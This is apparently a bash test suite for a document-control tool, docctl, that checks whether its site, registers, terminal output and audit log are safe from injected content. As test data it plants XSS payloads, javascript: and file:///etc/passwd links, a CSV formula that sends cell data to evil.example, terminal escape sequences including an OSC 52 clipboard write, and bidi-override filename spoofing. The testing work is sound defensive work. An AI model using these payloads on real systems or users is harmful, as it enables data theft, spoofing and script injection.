#!/usr/bin/env bash
# t0800-output-safety.sh - the outputs are safe for the people who read them
# (reference §7, "Output safety"). Each payload is planted through the real
# workflow: an author's commit, an approval signed with a real SSH key, a
# push to a bare server with docctl's hooks; then the site, the register,
# history, show, review-due, check and the audit trail are read the way
# their readers read them: headless Chromium for the site, Python's csv and
# json modules (strict UTF-8), a GFM table splitter for the Markdown
# register, and a byte check of what reaches a terminal (a real pty through
# script(1) for `show`).
HERE=$(cd "$(dirname "$0")" && pwd)
. "$HERE/lib/tap.sh"
. "$HERE/lib/server.sh"

plan 51
export DOCCTL_AS_OF=2026-06-01

skip() { TAP_N=$((TAP_N + 1)); echo "ok $TAP_N # SKIP $1"; }

# pycheck DESC PYTHON ARGS...: runs PYTHON; it prints problems
pycheck() {
	local desc=$1 code=$2 problems
	shift 2
	problems=$(python3 -c "$code" "$@" 2>&1)
	if [ -z "$problems" ]; then pass "$desc"; else fail "$desc" "$problems"; fi
}

chrome() { # chrome ARGS... URL
	timeout 120 chromium --headless --no-sandbox --disable-gpu --no-first-run --disable-background-networking \
		--disable-component-update --disable-sync --disable-dev-shm-usage --hide-scrollbars --user-data-dir="$(scratch)" \
		--window-size=1280,900 "$@" 2>/dev/null
}

# mkdoc FILE ID REV STATUS BY TITLE BODY [EXTRA]: a procedure; TITLE as YAML
mkdoc() {
	local f=$1 id=$2 rev=$3 status=$4 by=$5 title=$6 body=$7 extra=${8:-}
	mkdir -p "$(dirname "$f")"
	{
		printf -- '---\nid: %s\ntitle: %s\ntype: procedure\nrevision: %s\nstatus: %s\nowner: ann\n' \
			"$id" "$title" "$rev" "$status"
		[ "$rev" = A/0 ] || printf 'change: revised to %s\n' "$rev"
		if [ -n "$by" ]; then printf 'approved_by: %s\napproved_on: 2026-01-10\n' "$by"; fi
		[ -z "$extra" ] || printf '%s\n' "$extra"
		printf -- '---\n# %s\n\n%s\n' "$id" "$body"
	} >"$f"
}

# The bytes a terminal must never receive: ESC, BEL, BS, a CR that ends no
# CRLF, C1 controls (UTF-8 C2 80..9F), bidi overrides and isolates.
TERM_CHECK='
import re, sys
bad = re.compile(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]|\r(?!\n)|\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]|\xe2\x81[\xa6-\xa9]")
for f in sys.argv[1:]:
    b = open(f, "rb").read()
    m = bad.search(b)
    if m: print(f, "holds", m.group(0), "at", m.start(), b[max(0, m.start() - 40):m.start() + 20])
    if not b.strip(): print(f, "is empty")'

T=$(scratch)
srv_init "$T"
SERVER=$T/server.git
srv_bare "$SERVER"
git clone -q "$SERVER" "$T/work" 2>/dev/null
cd "$T/work" || exit 1
srv_policy docctl.yaml
sed -i 's/  procedure: {id: "SP-\[0-9\]{3}", approvers: \[qa-manager, general-manager\]}/  procedure: {id: "SP-[0-9]{3}", approvers: [qa-manager, general-manager], review_every: P1Y}/' docctl.yaml
srv_signers .docctl/allowed_signers
doc docs/procedures/SP-001-alpha.md SP-001 A/0 approved quinn
commit_as ann "Initial controlled documents"
push_accepted "the seed repository is accepted" refs/heads/main origin main

# --- 1, 2: the site ------------------------------------------------------------
A=docs/attachments
mkdir -p "$A" docs/.hidden
python3 - "$A/pic.png" <<'PY'
import struct, sys, zlib
def chunk(t, d): return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d))
raw = b"".join(b"\x00" + b"\x20\x60\xc0" * 16 for _ in range(16))
open(sys.argv[1], "wb").write(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 16, 16, 8, 2, 0, 0, 0))
    + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))
PY
cp "$A/pic.png" "$T/pic.approved.png"
echo "approved text" >"$A/swap.txt"
echo "<script>document.title='pwned-html'</script>" >"$A/evil.html"
echo "<svg xmlns='http://www.w3.org/2000/svg' onload=\"document.title='pwned-svg'\"/>" >"$A/evil.svg"
echo "AddType text/html .png" >"$A/.htaccess"
cp "$A/pic.png" docs/.hidden/x.png
echo "%PDF-1.4 secret" >"$A/secret.pdf"
BODY2="[click](javascript:document.title='pwned1') [ref link][r] <javascript:document.title='pwned3'>
[vb](vbscript:msgbox) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [file](file:///etc/passwd)
[JS](JaVaScRiPt:document.title='pwned6') [entity](&#106;avascript:document.title='pwned7')
[web](https://example.com/a) [mail](mailto:qa@example.com)

![pic](../attachments/pic.png) ![svg image](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)
[swap](../attachments/swap.txt) [html](../attachments/evil.html) [svg](../attachments/evil.svg)
[dot](../attachments/.htaccess) [hidden](../.hidden/x.png) [policy](../../docctl.yaml) [secret](../attachments/secret.pdf)

<script>document.title='pwned4'</script>
<img src=x onerror=\"document.title='pwned5'\">

[r]: javascript:document.title='pwned2'"
mkdoc docs/procedures/SP-002-site.md SP-002 A/0 draft "" "Site payloads" "$BODY2"
mkdoc docs/procedures/SP-003-secret.md SP-003 A/0 draft "" "Confidential" "See [the secret](../attachments/secret.pdf)." \
	"classification: confidential"
commit_as ann "Draft SP-002 and SP-003 with their attachments"
mkdoc docs/procedures/SP-002-site.md SP-002 A/0 approved quinn "Site payloads" "$BODY2"
mkdoc docs/procedures/SP-003-secret.md SP-003 A/0 approved quinn "Confidential" "See [the secret](../attachments/secret.pdf)." \
	"classification: confidential"
sign_as quinn quinn "Approve SP-002 and SP-003"
run "$DOCCTL" check
expect_contains "check warns about every link with an unsafe scheme, by rule name" \
	"docs/procedures/SP-002-site.md:13:9: warning: a link with the scheme \"javascript:\""
n=$(grep -c '\[link.scheme\]' <<<"$ERR$OUT")
if [ "$n" = 9 ]; then pass "9 link.scheme warnings: javascript (3 spellings, an entity), a reference definition, an autolink, vbscript, data (link and image), file"; else
	fail "9 link.scheme warnings" "$n
$OUT$ERR"; fi
# the linked files are not listed in files: the server, as check, exempts
# them from file.unclaimed (reference §9.3)
push_accepted "the signed approval is accepted (link.scheme is a warning)" refs/heads/main origin main
APPROVED=$(git rev-parse HEAD)

# an unsigned push then swaps the attachments' bytes
echo "<script>document.title='pwned-swap'</script> TAMPERED" >"$A/swap.txt"
printf 'GIF89a tampered' >"$A/pic.png"
commit_as ann "Swap the attachments (no approval)"
push_accepted "an unsigned push that changes only the attachments is accepted" refs/heads/main origin main

SITE=$T/site
run sh -c "cd '$SERVER' && '$DOCCTL' publish --out '$SITE'"
if [ "$RC" = 0 ]; then pass "publish from the server exits 0"; else fail "publish from the server exits 0" "$ERR"; fi
pycheck "only inert files the approval covers are copied: no HTML, SVG, dot-file, policy or confidential attachment" '
import os, sys
s = sys.argv[1]
have = sorted(os.path.relpath(os.path.join(d, f), s) for d, _, fs in os.walk(s) for f in fs if "/files" in d)
want = ["files/docs/attachments/pic.png", "files/docs/attachments/swap.txt"]
if have != want: print(have)' "$SITE"
if cmp -s "$SITE/files/$A/pic.png" "$T/pic.approved.png" && [ "$(cat "$SITE/files/$A/swap.txt")" = "approved text" ]; then
	pass "the files are those of the approved commit, not of the branch tip"
else
	fail "the files are those of the approved commit, not of the branch tip" "$(cat "$SITE/files/$A/swap.txt")"
fi
pycheck "every page: a strict Content-Security-Policy, no script, no href or src with a scheme but http, https, mailto" '
import glob, html.parser, re, sys
CSP = "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src '"'"'none'"'"'; img-src '"'"'self'"'"'; style-src '"'"'self'"'"'; base-uri '"'"'none'"'"'; form-action '"'"'none'"'"'\">"
class P(html.parser.HTMLParser):
    def __init__(s, f): super().__init__(); s.f = f
    def handle_starttag(s, tag, attrs):
        if tag == "script": print(s.f, "script element")
        for k, v in attrs:
            if k.startswith("on"): print(s.f, "event handler", k)
            if k in ("href", "src") and v and re.match(r"\s*[a-zA-Z][a-zA-Z0-9+.-]*:", v) and not re.match(r"(https?|mailto):", v):
                print(s.f, k, v)
for f in glob.glob(sys.argv[1] + "/*.html"):
    h = open(f, encoding="utf-8").read()
    if h.count(CSP) != 1 or h.index(CSP) > h.index("<title>"): print(f, "CSP")
    P(f).feed(h)' "$SITE"
P2=$(cat "$SITE/SP-002.html")
OUT=$P2 ERR=
expect_contains "https links stay" '<a href="https://example.com/a">web</a>'
expect_contains "mailto links stay" '<a href="mailto:qa@example.com">mail</a>'
expect_contains "the approved image is linked" '<img src="files/docs/attachments/pic.png" alt="pic">'
expect_contains "a dropped link keeps its text" '<a class="unpublished" title="not published">click</a>'
expect_contains "raw HTML is shown as text" "&lt;script&gt;document.title='pwned4'&lt;/script&gt;"
expect_not_contains "the page has no link to the confidential document's attachment" "secret.pdf\""

if command -v chromium >/dev/null; then
	chrome --dump-dom "file://$SITE/SP-002.html" >"$T/sp2.dom"
	pycheck "Chromium: the title is the document's, no script ran, no javascript: href in the DOM" '
import re, sys
d = open(sys.argv[1], encoding="utf-8").read()
t = re.search(r"<title>(.*?)</title>", d, re.S)
if not t or t.group(1) != "SP-002 Site payloads A/0": print("title", t and t.group(1))
if "pwned" in (t.group(1) if t else ""): print("a script ran")
if re.search(r"(href|src)=\"\s*(javascript|vbscript|data):", d, re.I): print("scheme in DOM")
if re.search(r"<script", d, re.I): print("script element in the DOM")
if "Site payloads" not in d: print("no text")' "$T/sp2.dom"
	# the policy itself: a page with a script planted in it runs nothing
	sed 's|<body class="doc">|<body class="doc"><script>document.title="pwned-csp"</script><img src="x" onerror="document.title=\x27pwned-onerror\x27">|' \
		"$SITE/SP-002.html" >"$SITE/probe.html"
	grep -v 'http-equiv="Content-Security-Policy"' "$SITE/probe.html" >"$SITE/probe-nocsp.html"
	chrome --dump-dom "file://$SITE/probe.html" >"$T/probe.dom"
	chrome --dump-dom "file://$SITE/probe-nocsp.html" >"$T/probe-nocsp.dom"
	if grep -q '<title>SP-002 Site payloads A/0</title>' "$T/probe.dom" && grep -q 'pwned' "$T/probe-nocsp.dom"; then
		pass "the Content-Security-Policy stops a planted script (which runs without it)"
	else
		fail "the Content-Security-Policy stops a planted script (which runs without it)" \
			"$(grep -o '<title>[^<]*' "$T/probe.dom" "$T/probe-nocsp.dom")"
	fi
	rm -f "$SITE/probe.html" "$SITE/probe-nocsp.html"
	chrome --screenshot="$T/sp2.png" "file://$SITE/SP-002.html" >/dev/null
	pycheck "Chromium renders the page with its style sheet under the policy (screenshot)" '
import sys
b = open(sys.argv[1], "rb").read()
if not b.startswith(b"\x89PNG") or len(b) < 15000: print(len(b))' "$T/sp2.png"
	[ -z "${KEEP_SCREENSHOT:-}" ] || cp "$T/sp2.png" "$KEEP_SCREENSHOT"
else
	skip "no chromium"; skip "no chromium"; skip "no chromium"
fi

# --- 3, 5, 6: the register ------------------------------------------------------
reset_work
mkdoc docs/procedures/SP-004-csv.md SP-004 A/0 draft "" "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")'" "Text."
mkdoc docs/procedures/SP-005-csv.md SP-005 A/0 draft "" "'+1 | forged \\| Gina GM | 2099-01-01'" "Text."
mkdoc docs/procedures/SP-006-csv.md SP-006 A/0 draft "" "'@SUM(1+1) <img src=x onerror=alert(1)> &amp;'" "Text."
mkdoc docs/procedures/SP-007-csv.md SP-007 A/0 draft "" "'-2+3 [x](javascript:alert(1)) *b* \`c\` \\\\'" "Text."
mkdoc docs/procedures/SP-008-csv.md SP-008 A/0 draft "" '"\t=1+1"' "Text."
commit_as ann "Draft SP-004..SP-008"
for n in 4 5 6 7 8; do sed -i 's/^status: draft$/status: approved\napproved_by: quinn\napproved_on: 2026-01-10/' docs/procedures/SP-00$n-csv.md; done
sign_as quinn quinn "Approve SP-004..SP-008"
push_accepted "titles that look like formulas, table cells and HTML are accepted" refs/heads/main origin main
TITLES=$T/titles.json
python3 - "$TITLES" <<'PY'
import json, sys
json.dump({"SP-004": '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "SP-005": "+1 | forged \\| Gina GM | 2099-01-01",
           "SP-006": "@SUM(1+1) <img src=x onerror=alert(1)> &amp;", "SP-007": "-2+3 [x](javascript:alert(1)) *b* `c` \\\\",
           "SP-008": "\t=1+1"}, open(sys.argv[1], "w"))
PY
(cd "$SERVER" && "$DOCCTL" register --format csv >"$T/reg.csv" && "$DOCCTL" register --format md >"$T/reg.md" &&
	"$DOCCTL" register --format json >"$T/reg.json" && "$DOCCTL" register --format html >"$T/reg.html")
pycheck "CSV (Python csv): a title starting with = + - @ or tab gets a leading ', the rest as written" '
import csv, json, sys
titles = json.load(open(sys.argv[2]))
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8-sig", newline="")))
got = {r[0]: r[1] for r in rows[1:]}
for i, t in titles.items():
    if got.get(i) != "'"'"'" + t: print(i, repr(got.get(i)))
for r in rows[1:]:
    for c in r:
        if c[:1] in ("=", "+", "-", "@", "\t", "\r"): print("live cell", repr(c))' "$T/reg.csv" "$TITLES"
pycheck "Markdown register: every row has its 11 cells (GFM splitting), the titles come back whole, no raw HTML" '
import json, re, sys
titles = json.load(open(sys.argv[2]))
lines = [l for l in open(sys.argv[1], encoding="utf-8").read().split("\n") if l.startswith("|")]
def cells(l):  # GFM: a cell ends at a pipe that no backslash escapes
    return [c for c in re.findall(r"((?:\\.|[^|\\])*)\|", l[1:])]
def unescape(c):  # GFM unescapes \| in cells, then CommonMark the rest
    c = c.strip().replace("\\|", "|")
    c = re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", c)
    return c.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
for l in lines:
    if len(cells(l)) != 11: print(len(cells(l)), l)
    if re.search(r"<[a-zA-Z/]", l): print("raw HTML", l)
got = {unescape(cells(l)[0]): unescape(cells(l)[1]) for l in lines[2:]}
for i, t in titles.items():
    if got.get(i) != t.strip(): print(i, repr(got.get(i)), repr(t))' "$T/reg.md" "$TITLES"
pycheck "register JSON (strict): the titles as written" '
import json, sys
titles = json.load(open(sys.argv[2]))
d = json.loads(open(sys.argv[1], "rb").read().decode("utf-8"))
got = {x["id"]: x["title"] for x in d["documents"]}
for i, t in titles.items():
    if got.get(i) != t: print(i, repr(got.get(i)))' "$T/reg.json" "$TITLES"
pycheck "register HTML: titles escaped, the inline style named by hash in the policy" '
import base64, hashlib, re, sys
h = open(sys.argv[1], encoding="utf-8").read()
if "<img" in h: print("raw img")
if "@SUM(1+1) &lt;img src=x onerror=alert(1)&gt; &amp;amp;" not in h: print("escaped title")
css = re.search(r"<style>(.*?)</style>", h, re.S).group(1)
want = "style-src '"'"'sha256-%s'"'"'" % base64.b64encode(hashlib.sha256(css.encode()).digest()).decode()
if want not in h: print("no", want)' "$T/reg.html"

# --- 4, 5: the terminal, JSON and the audit trail --------------------------------
# ref names with a bidi override, a C1 CSI and bytes that are not UTF-8 (git
# allows them all) reach the audit trail through pushes of unprotected refs
reset_work
for ref in $'refs/heads/review/\u202eFDP.exe' $'refs/heads/c1-\xc2\x9b31m' $'refs/heads/bad-\xff\xfe'; do
	git push -q origin "HEAD:$ref" 2>/dev/null
done
n=$(git ls-remote "$SERVER" | grep -c 'review/\|c1-\|bad-')
pycheck "every line of the audit trail is strict JSON, also for refs that are not UTF-8 ($n refs)" '
import json, sys
lines = open(sys.argv[1], "rb").read().split(b"\n")
refs = []
for l in lines[:-1]:
    refs.append(json.loads(l.decode("utf-8"))["ref"])
if lines[-1]: print("no final newline")
for want in ["refs/heads/review/\u202eFDP.exe", "refs/heads/c1-\u009b31m", "refs/heads/bad-\ufffd\ufffd"]:
    if want not in refs: print("missing", ascii(want), ascii(refs))
if any(ord(c) in (0x9b, 0x202e) for c in open(sys.argv[1], encoding="utf-8").read()): print("raw control in the log")' \
	"$SERVER/docctl-audit.log"

# a document full of terminal payloads, in a file whose name holds some too
EVIL=$'docs/procedures/SP-009-\e]0;pwned\a.md'
BODY9=$'Pay \e[2J\e[31mnow\e[0m \e]8;;https://evil.example/\alink\e]8;;\a \e]52;c;cHduZWQ=\a \u202eexe.pdf\u202c back\bspace\n\n```\ncode keeps \e[1m bytes\n```'
mkdoc "$EVIL" SP-009 A/0 draft "" '"Pay \e]52;c;cHduZWQ=\a now \u202Egpj.exe \u009b31m"' "$BODY9" \
	'change: "fixed\r  signed:    Gina GM (gina), 2026-01-10, approved"'
commit_as ann "Draft SP-009"
sed -i 's/^status: draft$/status: approved\napproved_by: quinn\napproved_on: 2026-01-10/' "$EVIL"
sign_as quinn quinn "Approve SP-009"
mkdoc $'docs/procedures/SP-010-\xff\xfe.md' SP-010 A/0 draft "" "Name not UTF-8" "Text."
sed -i 's/^owner: ann$/owner: nobody/' $'docs/procedures/SP-010-\xff\xfe.md'
commit_as ann "A document whose file name is not UTF-8"
run git push origin main
printf '%s\n%s' "$OUT" "$ERR" | grep '^remote:' >"$T/push.txt"
if [ "$RC" != 0 ] && grep -q '\[text.control\]' "$T/push.txt"; then pass "the server refuses control characters in the document (text.control)"; else
	fail "the server refuses control characters in the document (text.control)" "$(cat -v "$T/push.txt")"; fi
pycheck "the server's remote: lines reach the terminal escaped" "$TERM_CHECK" "$T/push.txt"
expect_contains "a file name with ESC is shown escaped in the remote: lines" 'SP-009-\x1b]0;pwned\x07.md'
run git push origin $'HEAD:refs/heads/release/\u202e1'
printf '%s\n%s' "$OUT" "$ERR" | grep '^remote:' >"$T/push2.txt"
pycheck "a protected ref's name with a bidi override is escaped in the remote: lines" "$TERM_CHECK" "$T/push2.txt"
expect_contains "it is shown as <U+202E>" 'refs/heads/release/<U+202E>1'

# the reader of a clone that holds it (the gate never saw this branch)
"$DOCCTL" check >"$T/check.txt" 2>&1
"$DOCCTL" history SP-009 >"$T/history.txt" 2>&1
"$DOCCTL" register >"$T/register.txt" 2>&1
"$DOCCTL" review-due --within P2Y >"$T/review.txt" 2>&1
pycheck "check, history, register (md) and review-due show no control character or bidi override" "$TERM_CHECK" \
	"$T/check.txt" "$T/history.txt" "$T/register.txt" "$T/review.txt"
OUT=$(cat "$T/check.txt") ERR=
expect_contains "check: the title's control character is a finding" \
	'docs/procedures/SP-009-\x1b]0;pwned\x07.md:3:8: error: the value of "title" holds the control character U+001B'
expect_contains "check: the change note's CR is a finding" 'the value of "change" holds the control character U+000D'
expect_contains "check: the body's escape sequences are findings" 'error: the text holds the control character U+001B'
expect_contains "check: the body's bidi override is a finding" 'the text holds the control character U+202E'
expect_contains "check: the backspace is a finding" 'the text holds the control character U+0008'
expect_not_contains "check: the bytes in a code block are not" '.md:17:'
OUT=$(cat "$T/history.txt") ERR=
expect_contains "history: the change note cannot draw another signer's line" \
	'change:    fixed\x0d  signed:    Gina GM (gina), 2026-01-10, approved'
expect_contains "history: the title's OSC 52 and bidi override are visible" 'Pay \x1b]52;c;cHduZWQ=\x07 now <U+202E>gpj.exe <U+009B>31m'
OUT=$(cat "$T/register.txt") ERR=
expect_contains "register (md): the title escaped for the terminal and the table" 'Pay \x1b\]52;c;cHduZWQ=\x07 now &lt;U+202E&gt;gpj.exe &lt;U+009B&gt;31m'

script -qec "'$DOCCTL' show SP-009" /dev/null >"$T/show-tty.txt" 2>&1
script -qec "'$DOCCTL' show --raw SP-009" /dev/null >"$T/show-raw.txt" 2>&1
"$DOCCTL" show SP-009 >"$T/show-pipe.txt" 2>/dev/null
pycheck "show on a terminal escapes the text (a real pty)" "$TERM_CHECK" "$T/show-tty.txt"
if git show "HEAD:$EVIL" | cmp -s - "$T/show-pipe.txt" && grep -q $'\e\\[2J' "$T/show-raw.txt"; then
	pass "show prints the bytes as they are to a pipe, and to a terminal with --raw"
else
	fail "show prints the bytes as they are to a pipe, and to a terminal with --raw"
fi

for f in "check --format json" "check --format sarif" "history SP-009 --format json" "register --format json" \
	"review-due --within P2Y --format json"; do
	$DOCCTL $f >"$T/out.json" 2>/dev/null
	pycheck "$f: strict JSON (UTF-8, no raw control character), terminal-safe, names not UTF-8 as U+FFFD" '
import json, sys
b = open(sys.argv[1], "rb").read()
d = json.loads(b.decode("utf-8"))
if "\x1b" in b.decode("utf-8") or "\u202e" in b.decode("utf-8"): print("raw control")
if not d: print("empty")
want = {"check --format json": "docs/procedures/SP-010-\ufffd\ufffd.md", "register --format json": "docs/procedures/SP-010-\ufffd\ufffd.md",
        "check --format sarif": "docs/procedures/SP-010-%FF%FE.md"}.get(sys.argv[2])
def strings(x):
    if isinstance(x, dict): x = list(x.values())
    if isinstance(x, list): return [s for y in x for s in strings(y)]
    return [x] if isinstance(x, str) else []
if want and want not in strings(d): print("the file name that is not UTF-8: not", ascii(want))' "$T/out.json" "$f"
done
git branch -q $'bad-\xff' HEAD
"$DOCCTL" register --format json --rev $'bad-\xff' >"$T/out.json" 2>/dev/null
pycheck "register --rev with a branch name that is not UTF-8: strict JSON, U+FFFD in its place" '
import json, sys
d = json.loads(open(sys.argv[1], "rb").read().decode("utf-8"))
if d["ref"] != "bad-\ufffd": print(ascii(d["ref"]))' "$T/out.json"

# --- 7: publish reads each linked blob once -----------------------------------------
reset_work
head -c 20000000 /dev/urandom >"$A/big.png"
links() { local i; for i in $(seq "$1"); do printf '![big %s](../attachments/big.png)\n' "$i"; done; }
mkdoc docs/procedures/SP-011-big.md SP-011 A/0 draft "" "One big image" "$(links 1)"
commit_as ann "Draft SP-011 with a big image"
mkdoc docs/procedures/SP-011-big.md SP-011 A/0 approved quinn "One big image" "$(links 1)"
sign_as quinn quinn "Approve SP-011"
ONE=$(git rev-parse HEAD)
mkdoc docs/procedures/SP-011-big.md SP-011 A/1 draft "" "One big image" "$(links 40)"
commit_as ann "Show the big image 40 times"
mkdoc docs/procedures/SP-011-big.md SP-011 A/1 approved quinn "One big image" "$(links 40)"
sign_as quinn quinn "Approve SP-011 A/1"
mkdoc docs/procedures/SP-012-many.md SP-012 A/0 draft "" "Many links" "$(for i in $(seq 1005); do printf '[p%s](../attachments/pic.png) ' "$i"; done)"
commit_as ann "Draft SP-012"
mkdoc docs/procedures/SP-012-many.md SP-012 A/0 approved quinn "Many links" "$(for i in $(seq 1005); do printf '[p%s](../attachments/pic.png) ' "$i"; done)"
sign_as quinn quinn "Approve SP-012"
push_accepted "the big image and its links are accepted" refs/heads/main origin main
seconds() { python3 -c 'import subprocess, sys, time; t = time.time(); subprocess.run(sys.argv[1], shell=True); print("%.2f" % (time.time() - t))' "$1"; }
t1=$(seconds "cd '$SERVER' && '$DOCCTL' publish --rev $ONE --out '$T/s1' 2>/dev/null")
t40=$(seconds "cd '$SERVER' && '$DOCCTL' publish --out '$T/s40' 2>'$T/s40.err'")
echo "# publish with 1 link to a 20 MB image: ${t1}s; with 40 links: ${t40}s"
if python3 -c "import sys; a, b = float(sys.argv[1]), float(sys.argv[2]); sys.exit(0 if b <= 2 * a + 0.5 else 1)" "$t1" "$t40"; then
	pass "40 links to one 20 MB file do not multiply publish's time (${t1}s, ${t40}s)"
else
	fail "40 links to one 20 MB file do not multiply publish's time (${t1}s, ${t40}s)"
fi
if cmp -s "$A/big.png" "$T/s40/files/$A/big.png"; then pass "the big file is copied once, whole"; else fail "the big file is copied once, whole"; fi
OUT=$(cat "$T/s40.err") ERR=
expect_contains "a page with more than 1000 links to files is bounded, with a warning" \
	"docctl: publish: warning: SP-012 has more than 1000 links to files; the 5 after them lost their target"
done_testing
